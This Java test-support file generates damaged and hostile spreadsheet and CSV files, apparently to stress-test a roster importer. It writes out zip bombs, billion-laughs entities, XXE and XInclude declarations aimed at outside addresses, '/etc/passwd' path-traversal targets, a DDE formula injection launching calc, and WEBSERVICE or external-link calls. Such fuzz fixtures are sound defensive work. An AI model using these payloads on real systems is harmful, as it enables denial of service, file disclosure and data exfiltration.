package org.jielin.endurance;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/** Writes files that are damaged or meant to do harm: the same ones for the same seed. */
final class HostileFiles {

    private static final int PEOPLE = 25;
    private static final String RELATIONS = "<Relationships><Relationship Id='r1' Type='x/worksheet' Target='worksheets/s.xml'/>"
            + "<Relationship Id='r2' Type='x/sharedStrings' Target='shared.xml'/></Relationships>";
    private static final String BOOK = "<workbook xmlns:r='r'><sheets><sheet name='../x' r:id='r1'/></sheets></workbook>";
    private static final String ROSTER = "门牌,室号,姓名,性别,联系电话\n" + "1号,101,甲一,男,13800001111\n1号,102,甲二,女,13800001112\n1号,103,甲三,男,13800001113\n";

    private final Random random;
    private final String outside;
    private final List<Supplier<Hostile>> kinds = List.of(this::truncated, this::flipped, this::xmlDamaged, this::bomb, this::laughs, this::external,
            this::absurdPlace, this::badParts, this::badRecords, this::badText, this::repeats, this::nested, this::linked, this::liar, this::wide, this::noise);
    private final List<byte[]> workbooks = new ArrayList<>();
    private final List<byte[]> texts = new ArrayList<>();

    /** A file and what its name ends with. */
    record Hostile(String kind, String ending, byte[] content) {
    }

    /** @param outside addresses that a file may try to reach: one of the network, one of a file */
    HostileFiles(long seed, List<String> outside) throws IOException {
        this.random = new Random(seed);
        this.outside = String.join(" ", outside);
        workbooks.add(workbook(new XSSFWorkbook()));
        workbooks.add(workbook(new HSSFWorkbook()));
        workbooks.add(ods("<table:table-row><table:table-cell office:value-type='string'><text:p>姓名</text:p></table:table-cell></table:table-row>".repeat(20)));
        workbooks.add(Files.readAllBytes(Path.of("assets/sample-office/志愿者登记表.xlsx")));
        workbooks.add(Files.readAllBytes(Path.of("assets/sample-office/独居高龄老人花名册.xls")));
        for (Charset charset : List.of(StandardCharsets.UTF_8, StandardCharsets.UTF_16, Charset.forName("GB18030"))) {
            texts.add(ROSTER.getBytes(charset));
        }
    }

    /** The file with a number; each number has its own kind of harm. */
    Hostile file(int number) {
        return kinds.get(number % kinds.size()).get();
    }

    private static byte[] workbook(Workbook workbook) throws IOException {
        try (workbook; ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Sheet sheet = workbook.createSheet("名册");
            String[] header = {"门牌", "室号", "姓名", "性别", "出生日期", "联系电话"};
            for (int r = 0; r <= PEOPLE; r++) {
                Row row = sheet.createRow(r);
                Object[] values = r == 0 ? header : new Object[] {"1号", 100.0 + r, "甲" + (char) ('一' + r), "男", 18000.0 + r, "138000011" + (10 + r)};
                for (int c = 0; c < values.length; c++) {
                    if (values[c] instanceof Double number) {
                        row.createCell(c).setCellValue(number);
                    } else {
                        row.createCell(c).setCellValue(values[c].toString());
                    }
                }
            }
            workbook.write(out);
            return out.toByteArray();
        }
    }

    private static byte[] zip(Map<String, byte[]> parts) {
        try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                    zip.putNextEntry(new ZipEntry(part.getKey()));
                    zip.write(part.getValue());
                }
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    private static byte[] zip(String... namesAndTexts) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        for (int i = 0; i < namesAndTexts.length; i += 2) {
            parts.put(namesAndTexts[i], bytes(namesAndTexts[i + 1]));
        }
        return zip(parts);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] xlsx(String sheet) {
        return zip("xl/workbook.xml", BOOK, "xl/_rels/workbook.xml.rels", RELATIONS, "xl/worksheets/s.xml", sheet, "xl/shared.xml", "<sst><si><t>x</t></si></sst>");
    }

    private static byte[] rows(String rows) {
        return xlsx("<worksheet><sheetData>" + rows + "</sheetData></worksheet>");
    }

    private static byte[] ods(String rows) {
        return zip("mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml",
                "<d xmlns:office='o' xmlns:table='t' xmlns:text='x'><office:spreadsheet><table:table table:name='../x'>" + rows
                        + "</table:table></office:spreadsheet></d>");
    }

    private <T> T any(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }

    private byte[] base() {
        return any(random.nextInt(4) == 0 ? texts : workbooks).clone();
    }

    private String ending() {
        return any(List.of("xlsx", "xls", "ods", "csv", "xlsm", "txt", "et"));
    }

    private Hostile truncated() {
        byte[] base = base();
        return new Hostile("truncated", ending(), Arrays.copyOf(base, random.nextInt(base.length)));
    }

    private Hostile flipped() {
        byte[] base = base();
        for (int i = 1 + random.nextInt(60); i > 0; i--) {
            base[random.nextInt(base.length)] ^= (byte) (1 << random.nextInt(8));
        }
        return new Hostile("flipped", ending(), base);
    }

    /** Damage inside the parts of a zip, whose checksums are right again. */
    private Hostile xmlDamaged() {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(any(List.of(workbooks.get(0), workbooks.get(2), workbooks.get(3)))))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                parts.put(entry.getName(), zip.readAllBytes());
            }
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        String name = any(List.copyOf(parts.keySet()));
        byte[] part = parts.get(name);
        int at = random.nextInt(part.length + 1);
        byte[] harm = bytes(any(List.of("<", ">", "&", "\0", "-1", "99999999999", "\"", "<![CDATA[", "<!--", "</sheetData>", "&#0;", "&#xD800;", "1E400", "NaN")));
        ByteArrayOutputStream changed = new ByteArrayOutputStream();
        changed.write(part, 0, at);
        changed.writeBytes(harm);
        int from = Math.min(part.length, at + random.nextInt(20));
        changed.write(part, from, part.length - from);
        parts.put(name, changed.toByteArray());
        return new Hostile("xml damaged", "xlsx", zip(parts));
    }

    private Hostile bomb() {
        int megabytes = 20 + random.nextInt(80);
        String filler = any(List.of(" ", "<row/>", "<row><c><v>1</v></c></row>", "<!-- -->", "<x a='          '/>"));
        byte[] piece = bytes(filler.repeat((1 << 20) / filler.length()));
        try (ByteArrayOutputStream out = new ByteArrayOutputStream(); ZipOutputStream zip = new ZipOutputStream(out)) {
            boolean manySheets = random.nextBoolean();
            String[] parts = {"xl/workbook.xml", BOOK, "xl/_rels/workbook.xml.rels", RELATIONS};
            for (int i = 0; i < parts.length; i += 2) {
                zip.putNextEntry(new ZipEntry(parts[i]));
                zip.write(bytes(parts[i + 1]));
            }
            zip.putNextEntry(new ZipEntry(any(List.of("xl/worksheets/s.xml", "xl/shared.xml"))));
            zip.write(bytes("<worksheet><sheetData>"));
            for (int i = 0; i < megabytes; i++) {
                zip.write(piece);
            }
            zip.write(bytes("</sheetData></worksheet>"));
            for (int i = 0; manySheets && i < 4000; i++) {
                zip.putNextEntry(new ZipEntry("xl/worksheets/sheet" + i + ".xml"));
            }
            zip.finish();
            return new Hostile("bomb", ending(), out.toByteArray());
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    private Hostile laughs() {
        StringBuilder entities = new StringBuilder("<!DOCTYPE x [<!ENTITY a0 '" + "ha".repeat(1 + random.nextInt(5000)) + "'>");
        int depth = 1 + random.nextInt(12);
        for (int i = 1; i <= depth; i++) {
            entities.append("<!ENTITY a").append(i).append(" '").append(("&a" + (i - 1) + ";").repeat(10)).append("'>");
        }
        return new Hostile("laughs", "xlsx", inSomeDocument(entities + "]>", "&a" + depth + ";"));
    }

    private Hostile external() {
        String address = any(List.of(outside.split(" ")));
        String declaration = any(List.of("<!DOCTYPE x SYSTEM '" + address + "'>", "<!DOCTYPE x [<!ENTITY e SYSTEM '" + address + "'>]>",
                "<!DOCTYPE x [<!ENTITY % p SYSTEM '" + address + "'> %p;]>", "<?xml-stylesheet href='" + address + "'?>"));
        return new Hostile("external", ending(), inSomeDocument(declaration, declaration.contains("ENTITY e") ? "&e;"
                : "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='" + address + "'/>"));
    }

    private byte[] inSomeDocument(String declaration, String text) {
        String cell = "<worksheet><sheetData><row><c t='inlineStr'><is><t>" + text + "</t></is></c></row></sheetData></worksheet>";
        String document = "<x>" + text + "</x>";
        return switch (random.nextInt(6)) {
            case 0 -> xlsx(declaration + cell);
            case 1 -> zip("xl/workbook.xml", declaration + BOOK, "xl/_rels/workbook.xml.rels", RELATIONS, "xl/worksheets/s.xml", cell);
            case 2 -> zip("xl/workbook.xml", BOOK, "xl/_rels/workbook.xml.rels", declaration + RELATIONS, "xl/worksheets/s.xml", cell, "xl/shared.xml",
                    declaration + "<sst><si><t>" + text + "</t></si></sst>");
            case 3 -> zip("mimetype", "application/vnd.oasis.opendocument.spreadsheet", "META-INF/manifest.xml", declaration + document, "content.xml",
                    declaration + document);
            case 4 -> {
                Map<String, byte[]> parts = new LinkedHashMap<>();
                parts.put("xl/workbook.xml", ("\uFEFF<?xml version='1.0' encoding='UTF-16'?>" + declaration + BOOK).getBytes(StandardCharsets.UTF_16));
                yield zip(parts);
            }
            default -> bytes("<html>" + declaration + "<table><tr><td>" + text + "<img src='" + outside.split(" ")[0] + "'><iframe src='" + outside.split(" ")[0]
                    + "'></iframe></table>");
        };
    }

    private Hostile absurdPlace() {
        String place = any(List.of("r='-5'", "r='0'", "r='99999999999'", "r='1048577'", "r='2147483647'", "r=''", "r='x'"));
        String cell = any(List.of("A1", "XFD1048576", "ZZZZ1", "A0", "A-1", "1A", "A99999999999", "é1", "", "A1:B2"));
        String merge = any(List.of("A1:XFD1048576", "B2:A1", "A1", ":", "A1:A-1", "ZZZ1:ZZZ9"));
        String merges = ("<mergeCell ref='" + merge + "'/>").repeat(any(List.of(1, 1000, 200_000)));
        return new Hostile("absurd place", "xlsx", xlsx("<worksheet><dimension ref='A1:XFD1048576'/><cols><col min='-1' max='2147483647' hidden='1'/></cols><sheetData><row "
                + place + "><c r='" + cell + "' s='-7'><v>1</v></c></row><row><c><v>2</v></c></row></sheetData><mergeCells>" + merges + "</mergeCells></worksheet>"));
    }

    private Hostile badParts() {
        String target = any(List.of("../../../../../../etc/passwd", "file:///etc/passwd", "worksheets/none.xml", "/", "", "worksheets/", "../xl/workbook.xml"));
        byte[] content = switch (random.nextInt(4)) {
            case 0 -> zip("xl/workbook.xml", BOOK, "xl/_rels/workbook.xml.rels", RELATIONS.replace("worksheets/s.xml", target));
            case 1 -> rows("<row><c t='s'><v>" + any(List.of("1", "-1", "2147483647", "99999999999", "x", "")) + "</v></c></row>");
            case 2 -> zip("xl/workbook.xml", BOOK.replace("<sheets>", "<sheets>" + "<sheet name='x' r:id='r1'/>".repeat(300)), "xl/_rels/workbook.xml.rels",
                    RELATIONS, "xl/worksheets/s.xml", "<worksheet/>");
            default -> zip("_rels/.rels", "<Relationships><Relationship Type='x/officeDocument' Target='" + target + "'/></Relationships>", target + "x", "x");
        };
        return new Hostile("bad parts", "xlsx", content);
    }

    /** Damage in the lengths, chains and records of the old format. */
    private Hostile badRecords() {
        byte[] base = any(List.of(workbooks.get(1), workbooks.get(4))).clone();
        for (int i = 1 + random.nextInt(8); i > 0; i--) {
            int at = random.nextBoolean() ? random.nextInt(1024) : 4 * random.nextInt(base.length / 4);
            int value = any(List.of(0, -1, -2, -3, 1, 0x7FFFFFFF, 0x80000000, 0x10101010, random.nextInt(), random.nextInt(64)));
            for (int b = 0; b < 4 && at + b < base.length; b++) {
                base[at + b] = (byte) (value >> 8 * b);
            }
        }
        return new Hostile("bad records", "xls", base);
    }

    private Hostile badText() {
        byte[] content = switch (random.nextInt(8)) {
            case 0 -> bytes("甲".repeat(3_400_000));
            case 1 -> bytes(ROSTER + "1号,104,\"甲四,男\n1号,105,甲五,女,\n" + "x".repeat(random.nextInt(200_000)));
            case 2 -> bytes(ROSTER.replace("甲二", "甲\0二").replace("女", "\u202E女\u0007\u2066"));
            case 3 -> {
                ByteArrayOutputStream mixed = new ByteArrayOutputStream();
                for (String line : ROSTER.split("(?<=\n)")) {
                    mixed.writeBytes(line.getBytes(any(List.of(StandardCharsets.UTF_8, Charset.forName("GB18030"), StandardCharsets.UTF_16LE))));
                }
                yield mixed.toByteArray();
            }
            case 4 -> bytes("\"".repeat(1 + random.nextInt(2_000_000)));
            case 5 -> bytes("\n".repeat(5_000_000));
            case 6 -> bytes("a\n".repeat(250_000 + random.nextInt(1000)));
            default -> bytes(ROSTER + "=cmd|'/c calc'!A1,=HYPERLINK(\"" + outside.split(" ")[0] + "\"),@SUM(1),+1,-1\n");
        };
        return new Hostile("bad text", any(List.of("csv", "txt", "xls", "xlsx")), content);
    }

    private Hostile repeats() {
        String times = any(List.of("1048576", "2147483647", "-1", "0", "99999999999", "x"));
        String more = any(List.of("1", "16384", "2147483647"));
        String row = "<table:table-row table:number-rows-repeated='" + times + "'><table:table-cell office:value-type='string' table:number-columns-repeated='" + more
                + "' table:number-rows-spanned='" + any(List.of("1", "2147483647", "3")) + "' table:number-columns-spanned='" + more + "'><text:p>x<text:s text:c='"
                + times + "'/></text:p></table:table-cell></table:table-row>";
        return new Hostile("repeats", "ods", ods(row.repeat(1 + random.nextInt(5))));
    }

    private Hostile nested() {
        int depth = any(List.of(100, 10_000, 1_000_000));
        byte[] content = switch (random.nextInt(4)) {
            case 0 -> rows("<x>".repeat(depth) + "</x>".repeat(depth));
            case 1 -> ods("<table:table>".repeat(depth));
            case 2 -> bytes("<html>" + any(List.of("<div>", "<table><tr><td>", "<b><i>", "<p")).repeat(depth));
            default -> rows("<row><c t='inlineStr'><is>" + "<r>".repeat(depth) + "<t>x</t>" + "</r>".repeat(depth) + "</is></c></row>");
        };
        return new Hostile("nested", any(List.of("xlsx", "ods", "xls")), content);
    }

    private Hostile linked() {
        String address = any(List.of(outside.split(" ")));
        return new Hostile("linked", "xlsm", zip("xl/workbook.xml", BOOK, "xl/_rels/workbook.xml.rels",
                RELATIONS.replace("</Relationships>", "<Relationship Id='r3' Type='x/externalLink' TargetMode='External' Target='" + address + "'/></Relationships>"),
                "xl/worksheets/s.xml", "<worksheet><sheetData><row><c><f>[1]Sheet1!A1</f><v>1</v></c><c t='str'><f>WEBSERVICE(\"" + address
                        + "\")</f><v>x</v></c></row></sheetData></worksheet>",
                "xl/shared.xml", "<sst/>", "xl/vbaProject.bin", "MZ", "xl/externalLinks/externalLink1.xml", "<x/>", "xl/connections.xml", "<x/>", "../../evil.txt", "evil"));
    }

    /** Files whose name lies about what they are. */
    private Hostile liar() {
        byte[] content = switch (random.nextInt(7)) {
            case 0 -> bytes("%PDF-1.7\n" + "x".repeat(1000));
            case 1 -> zip("word/document.xml", "<w/>");
            case 2 -> zip("xl/workbook.bin", "x");
            case 3 -> encrypted();
            case 4 -> zip("a.zip", "PK\3\4");
            case 5 -> new byte[random.nextInt(100_000)];
            default -> bytes("<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><Workbook/>");
        };
        return new Hostile("liar", ending(), content);
    }

    private byte[] encrypted() {
        try (POIFSFileSystem files = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Encryptor encryptor = new EncryptionInfo(EncryptionMode.standard).getEncryptor();
            encryptor.confirmPassword("secret");
            try (OutputStream inside = encryptor.getDataStream(files)) {
                inside.write(workbooks.getFirst());
            }
            files.writeFilesystem(out);
            return out.toByteArray();
        } catch (Exception e) {
            throw new AssertionError(e);
        }
    }

    private Hostile wide() {
        byte[] content = switch (random.nextInt(4)) {
            case 0 -> bytes("甲,".repeat(1_000_000) + "\n" + ROSTER);
            case 1 -> rows("<row>" + "<c><v>1</v></c>".repeat(1_000_000) + "</row>");
            case 2 -> bytes("<table><tr><td colspan=1000000 rowspan=1000000>x" + "<td colspan=999>y".repeat(10_000) + "</table>");
            default -> rows("<row " + "a='1' ".repeat(300).replaceAll("a=", "a" + random.nextInt(9) + "=") + "/>" + "<row>" + "<c t='s'><v>0</v></c>".repeat(250) + "</row>");
        };
        return new Hostile("wide", ending(), content);
    }

    private Hostile noise() {
        byte[] content = new byte[1 + random.nextInt(200_000)];
        random.nextBytes(content);
        byte[] begin = any(List.of(new byte[0], new byte[] {'P', 'K', 3, 4}, new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1},
                new byte[] {(byte) 0xFF, (byte) 0xFE}, bytes("<html><table>"), bytes("<?xml version='1.0'?>"), new byte[] {9, 8, 16, 0, 0, 6}));
        System.arraycopy(begin, 0, content, 0, Math.min(begin.length, content.length));
        return new Hostile("noise", ending(), content);
    }
}
